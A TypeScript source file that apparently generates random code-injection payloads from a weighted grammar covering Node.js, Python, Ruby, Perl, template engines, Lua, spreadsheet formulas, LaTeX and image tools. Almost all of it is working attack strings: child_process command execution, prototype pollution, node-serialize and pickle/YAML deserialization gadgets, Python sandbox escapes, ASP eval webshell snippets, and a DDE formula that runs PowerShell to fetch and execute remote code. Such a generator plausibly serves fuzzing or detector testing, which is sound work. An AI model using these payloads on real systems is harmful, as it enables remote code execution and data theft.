/** Code injection: PHP, JavaScript on the server, Python, Ruby, Perl, Java expression languages. */

import { grammar, lines } from "../lib/grammar.ts";
import type { Random } from "../lib/random.ts";
import { JAVA } from "./code-java.ts";
import { PHP } from "./code-php.ts";
import { SHELL } from "./shell.ts";

const RULES = grammar({
  ...SHELL,
  ...PHP,
  ...JAVA,
  start: [
    ["«php»", 16],
    ["«java»", 9],
    ["«node»", 6],
    ["«python»", 4],
    ["«ruby»", 2],
    ["«perl»", 2],
    ["«lisp»", 1],
  ],
  node: lines`
    require['«resolve|cache|main|extensions»']
    require[«q»«rnd»«q»]
    require«_»(«q»«child_process|fs|os|vm|net|http|dns|path|module|worker_threads|«rnd»»«q»)
    require(«bt»«child_process|fs|os»«bt»)
    require.«main.require|cache|resolve|extensions»(«q»«rnd»«q»)
    process.mainModule
    process.mainModule«.|['|["|?.»«require|constructor|exports|children|paths»
    process['«mainModule|env|binding|exit|argv|dlopen»']
    process.«env.«Rnd»|argv[«digit»]|report.writeReport()|umask()|getuid()|setuid(0)|memoryUsage()|versions|title|release.name|hrtime()|_getActiveHandles()»
    global«['process']|["require"]|.process|.eval|[«q»«rnd»«q»]»
    global[«q»«rnd»«q»+«q»«rnd»«q»](«q»«rnd»«q»)
    globalThis«.|['»«process|constructor|eval|require|Function»«|']|.«rnd»»
    this.constructor.constructor(«q»return «process|this|global|«rnd»»«q»)()
    this«.constructor|['constructor']|["constructor"]»«.constructor|['constructor']»(«q»«rnd»«q»)
    «rnd».constructor.constructor(«q»«rnd»«q»)()
    «».constructor.constructor(«q»alert(«int»)«q»)()
    Function(«q»«rnd»«q»)()
    Function(«q»return «rnd»«q»)«()|.call()|.apply(this)|«bt»«bt»»
    new«_»Function«_»(«q»«rnd»«q»)
    (Function(«q»«rnd»«q»))()
    eval«_»(«q»«rnd»«q»)
    «eval|Function|setTimeout|setInterval|setImmediate|execScript»(atob(«q»«base64»«q»))
    «eval|setTimeout|setInterval»(«q»«rnd»(«int»)«q»«,«int»|»)
    (0,eval)(«q»«rnd»«q»)
    eval.call(null,«q»«rnd»«q»)
    __proto__
    __proto__.«v=rnd».«rnd»
    «noun»[__proto__][«rnd»]=«rnd»
    «noun».__proto__.«rnd»=«int»
    «noun»[constructor][prototype][«rnd»]=«int»
    constructor.prototype
    constructor.prototype.«rnd».«rnd»
    «rnd».constructor.prototype.«noun»
    {"«noun»":{"__proto__":{"«rnd»":«true|«int»|"«rnd»"»}}}
    Object.«assign|defineProperty|setPrototypeOf»(«rnd»,«rnd»)
    «Reflect.construct|Reflect.apply|Proxy|Symbol.for»(«rnd»,«q»«rnd»«q»)
    vm.«runInNewContext|runInThisContext|Script»(«q»«rnd»«q»)
    await import(«q»«fs|os|child_process|«rnd»»«q»)
    Deno.«run|readTextFile|env.get|Command»(«q»«rnd»«q»)
    Bun.«spawn|file|write»(«q»«rnd»«q»)
    require('child_process').«nodeexec»('«look»')
    require("child_process").«nodeexec»("«unix»")
    require('child_process')['«nodeexec»']('«look»')
    global.process.mainModule.require('child_process').«nodeexec»('«look»')
    process.mainModule.require('child_process').«nodeexec»('«look»').toString()
    this.constructor.constructor('return process')().mainModule.require('child_process').«nodeexec»('«look»')
    global.process.mainModule.constructor._load('child_process').«nodeexec»('«look»')
    require('fs').«readFileSync|readdirSync|writeFileSync|unlinkSync|existsSync»('«unixfile»')
    require('«http|net|dns|os|vm|util|cluster|crypto|fs|child_process»')
    res.«end|send|write|sendFile»(require('fs').«readFileSync|readdirSync»('«unixfile»'))
    res.end(process.«version|env|cwd()|platform|mainModule»)
    response.«end|write»('«rnd»')
    process.«exit|kill|binding|env|argv|cwd|dlopen|chdir|abort|pid»«()|('«rnd»')|»
    process.binding('spawn_sync').spawn({file:'/bin/«tool»',args:['«rnd»']})
    (function(){return global.process.mainModule.require('child_process')})()
    new Function('return process')()
    new Function("«rnd»","return «rnd»")
    eval("require('child_process').«nodeexec»('«look»')")
    setTimeout(()=>{«rnd»},«int»)
    while(1)«;|{}»
    while(true){}
    ';while(1);var «rnd»='
    var d=new Date();do{curDate=new Date();}while(curDate-d<«int»)
    ';return «true|1|«rnd»»;var «rnd»='
    {"rce":"_$$ND_FUNC$$_function (){require('child_process').«nodeexec»('«look»',function(error,stdout,stderr){console.log(stdout)});}()"}
    _$$ND_FUNC$$_function(){«rnd»}()
    __proto__[«rnd»]=«rnd»
    __proto__.«rnd»=«rnd»
    constructor.prototype.«rnd»=«rnd»
    constructor[prototype][«rnd»]=«rnd»
    {"__proto__":{"«rnd|isAdmin|admin|polluted|shell|outputFunctionName|NODE_OPTIONS|argv0|execPath|role»":«true|"«rnd»"|1»}}
    {"constructor":{"prototype":{"«rnd»":"«rnd»"}}}
    __proto__[outputFunctionName]=x;process.mainModule.require('child_process').«nodeexec»('«look»');s
    __proto__[block][type]=Text&__proto__[block][line]=process.mainModule.require('child_process').«nodeexec»(«q»«look»«q»)
    Object.prototype.«rnd»=«rnd»
    import('child_process').then(m=>m.«nodeexec»('«look»'))
    (async()=>{(await import('child_process')).«nodeexec»('«look»')})()
    String.fromCharCode(«ascii»,«ascii»,«ascii»)
    Function("return this")().process
    Reflect.get(global,«q»eval«q»)(«q»«rnd»«q»)
    module.«exports|constructor._load('«rnd»')»
    console.«log|error|dir|debug»(process.env)
    this.process.mainModule.require
    const err=new Error();err.name={toString:new Proxy(()=>"",{apply(t,a){return a.constructor.constructor("return process")()}})}
    JSON.parse('{"«rnd»":«rnd»')
    Buffer.from('«base64»','base64').toString()
    [].constructor.constructor("return process")()`,
  nodeexec: ["exec", "execSync", "spawn", "spawnSync", "execFile", "execFileSync", "fork"],
  python: lines`
    __import__(«qq|q»
    __import__(«q»«os|sys|subprocess|socket|pty|builtins|importlib|«rnd»»«q»)«|.«rnd»|.«rnd»()»
    os.popen(«q»«gtfouse»«q»)«|.read()|.readlines()»
    os«_».«_»«system|popen|execvp|spawnlp|listdir|environ|getcwd»«_»(«q»«gtfo»«q»)
    «importlib|imp».import_module(«q»os«q»)
    «compile|eval|exec|execfile|input|getattr|setattr|globals|locals|vars|dir»(«q»«rnd»«q»«|,«q»«rnd»«q»,«q»exec«q»»)
    «rnd».__«class|init|globals|builtins|subclasses|mro|base|dict|code|reduce|getattribute»__
    pickle.loads(«q»«rnd»«q»)
    __import__('os').«pyexec»('«look»')
    __import__("os").«pyexec»("«unix»")
    __import__('subprocess').«Popen|check_output|call|run|getoutput»('«look»',shell=True)
    import os;os.«pyexec»('«look»')
    import os«nl»os.«pyexec»('«unix»')
    import «os|subprocess|socket|pty|sys|urllib|commands|ctypes|pickle»;«rnd».«rnd»('«rnd»')
    eval(compile('import os;os.«pyexec»("«look»")','','exec'))
    eval(compile("""for x in range(1):\n import time\n time.sleep(«secs»)""",'a','single'))
    exec("import os;os.«pyexec»('«look»')")
    exec(__import__('base64').b64decode('«base64»'))
    exec(«q»«rnd»=«int»«q»)
    open('«unixfile»').read()
    open("«unixfile»","«r|w|rb»")
    os.«pyexec»('«look»')
    subprocess.«Popen|check_output|call|run|getoutput|check_call»(['«tool»','«rnd»'])
    ().__class__.__«bases|base|mro»__[0].__subclasses__()
    ().__class__.__bases__[0].__subclasses__()[«int»].__init__.__globals__
    [].__class__.__base__.__subclasses__()[«int»]('«unixfile»').read()
    [x for x in ().__class__.__base__.__subclasses__() if x.__name__=='«catch_warnings|Popen|Quitter»'][0]()
    getattr(__import__('os'),'«pyexec»')('«look»')
    globals()['__builtins__']['«eval|__import__|open»']('«rnd»')
    __builtins__.__dict__['__import__']('os')
    lambda:__import__('os').«pyexec»('«look»')
    str(__import__('time').sleep(«secs»))
    print(«int»*«int»)
    cos«nl»system«nl»(S'«look»'«nl»tR.
    c__builtin__«nl»eval«nl»(S'«rnd»'«nl»tR.
    gASV«base64»
    !!python/object/apply:os.«pyexec» ['«look»']
    !!python/object/new:«subprocess.Popen|os.system» ["«look»"]
    !!python/name:«rnd».«rnd»
    !!«javaclass» [!!java.net.URLClassLoader [[!!java.net.URL ["«url»"]]]]
    !ruby/object:Gem::«Installer|Requirement|SpecFetcher»
    '+__import__('os').«pyexec»('«look»')+'
    "+str(«int»*«int»)+"`,
  pyexec: ["system", "popen", "system", "execl", "execv", "listdir", "remove", "getenv", "spawnl", "fork"],
  ruby: lines`
    #{«int»*«int»}
    #{«rnd»}#{«bt»«gtfo»«bt»}
    #{«File.read|IO.read|Dir.entries|Kernel.exec|ENV.fetch|eval|system|exec»(«q»«gtfofile»«q»)}
    Kernel«.|::|.send(:»«exec|system|spawn|fork|open|eval|require|sleep|test|trap|syscall»«_»«q»«gtfouse»«q»
    %«x|q|w|Q|i»«[|(|{|/»«gtfo»«]|)|}|/»
    PTY.spawn(«q»«gtfo»«q»)
    ERB.new(«q»<%= «bt»«gtfo»«bt» %>«q»).result
    «class_eval|module_eval|define_method|public_send|__send__|const_missing» «q»«rnd»«q»
    system('«look»')
    system("«unix»")
    exec "«look»"
    %x(«look»)
    %x{«unix»}
    \`«look»\`
    IO.popen('«look»').read
    Kernel.«exec|system|open|eval|fork»('«look»')
    Process.«spawn|fork|kill|daemon»("«look»")
    Open3.«capture2e|popen3»('«look»')
    File.«read|open|readlines|delete»('«unixfile»')
    Dir.«entries|glob|pwd»('«/|/etc|*»')
    require 'open3';«rnd»
    eval("«bt»«look»«bt»")
    #{«bt»«look»«bt»}
    #{%x(«look»)}
    #{system('«look»')}
    open('|«look»').read
    |«look»
    instance_eval("«rnd»")
    send(:«eval|system|exec»,'«look»')
    Marshal.load("«base64»")
    BAh«base64»
    Object.const_get(:«Kernel|File|IO»).«rnd»
    ObjectSpace.each_object(Class)
    sleep(«secs»)`,
  perl: lines`
    @{[«_»«system|exec|qx|print|eval|readpipe|glob|open»«_»«q»«gtfouse»«q»«_»]}
    @{[ «bt»«gtfo»«bt» ]}
    @{[«small»*«int»]}
    \${\(«bt»«gtfo»«bt»)}
    «sprintf|eval|syscall|readpipe|do|require|unlink|chmod» «q»«rnd»«q»;
    $«rnd»=«bt»«gtfo»«bt»;
    %{«int»*«int»}
    %{#a=«int»}
    %{«rnd».«rnd»(«q»«rnd»«q»)}
    %{(#_='«rnd»').(#«rnd»=@«rnd».«Rnd»@«rnd»())}
    new ProcessBuilder(«q»«gtfo»«q»«|,«q»«rnd»«q»»).start()
    (new java.lang.ProcessBuilder(new String[]{"«gtfo»"})).start()
    \${"freemarker.template.utility.«Execute|ObjectConstructor|JythonRuntime»"?new()("«gtfo»")}
    <#assign «v=rnd2»="freemarker.template.utility.Execute"?new()>\${«$v»("«gtfo»")}
    «rnd»?new()(«q»«gtfo»«q»)
    \${«rnd»?«new|eval|api|interpret|has_api»}
    system('«look»');
    system("«unix»")
    print«bt»«look»«bt»
    «q»;system('«look»');«q»
    open(«Letter»,'«unixfile»');print <«Letter»>
    open(F,"|«look»")
    exec('«look»')
    qx/«look»/
    qx(«unix»)
    print qx«bt»«look»«bt»
    eval { system('«look»') }
    @{[system «q»«look»«q»]}
    \${\system(«q»«look»«q»)}
    $ENV{«PATH|HOME|QUERY_STRING»}
    use IO::Socket;«rnd»
    require "«unixfile»"
    &«rnd»;print "«rnd»"
    perl -e '«rnd»'
    sleep(«secs»);
    \${@print(md5(«rnd»))}
    \${@print(md5(«rnd»))}\
    response.write(«big»*«big»)
    '+response.write(«big»*«big»)+'
    "+response.write(«big»*«big»)+"
    ;print(md5(«rnd»));
    ';print(md5(«rnd»));$a='
    ";print(md5(«rnd»));$a="
    {php}print(md5(«int»));{/php}
    set|set&set
    <%=«int»*«int»%>
    <% Response.Write(«int»*«int») %>
    <%eval request("«rnd»")%>
    <%execute(request("«rnd»"))%>
    <%@ Page Language="«Jscript|C#»"%><%eval(Request.Item["«rnd»"],"unsafe");%>
    <cf«execute|output|file|include|query» name=«qq»«rnd»«qq» arguments=«qq»«look»«qq»>
    #evaluate("«rnd»")#`,
  lisp: lines`
    os.execute('«look»')
    io.popen('«look»'):read('*a')
    dofile('«unixfile»')
    loadstring('os.execute("«look»")')()
    string.dump(«rnd»)
    Process.Start("«cmd|calc|powershell»","/c «winlook»")
    System.Diagnostics.Process.Start("«rnd».exe")
    new ActiveXObject("WScript.Shell").«Run|Exec»("«winlook»")
    CreateObject("«WScript.Shell|Scripting.FileSystemObject|Shell.Application|MSXML2.XMLHTTP»")
    Server.CreateObject("WSCRIPT.SHELL").Exec("«winlook»")
    GetObject("winmgmts:")
    =cmd|' /C «winlook»'!A«digit»
    @SUM(1+1)*cmd|' /C «calc|notepad»'!A0
    =HYPERLINK("«url»?x="&A1,"«rnd»")
    =IMPORT«XML|DATA|HTML|FEED»(CONCAT("«url»?v=",A«digit»),"//a")
    +cmd|' /C powershell IEX(wget «url»)'!A0
    -2+3+cmd|' /C calc'!D2
    =WEBSERVICE("«url»"&A1)
    =DDE("cmd";"/C «calc|notepad»";"«rnd»")
    \input{«unixfile»}
    \immediate\write18{«look»}
    \include{«unixfile»}
    \lstinputlisting{«unixfile»}
    \newread\file\openin\file=«unixfile»
    \catcode\`\_=12\input{«unixfile»}
    \href{javascript:alert(«int»)}{«rnd»}
    %pipe%«look»
    (%pipe%«unix»)
    currentdevice null true mark /OutputICCProfile (%pipe%«look»)
    push graphic-context viewbox 0 0 «int» «int» fill 'url(https://«host»"|«look»")'
    <image authenticate='ff" «bt»«look»«bt»;"'>
    Sys.«command|getenv» "«rnd»"
    :os.cmd('«look»')
    System.cmd("«tool»",["«rnd»"])
    (eval «rnd»)
    (load-file "«rnd»")
    shell_exec«_»«rnd»`,
});

/** Code injection in one of the languages that web applications are written in. */
export function code(rng: Random): string {
  return RULES(rng);
}
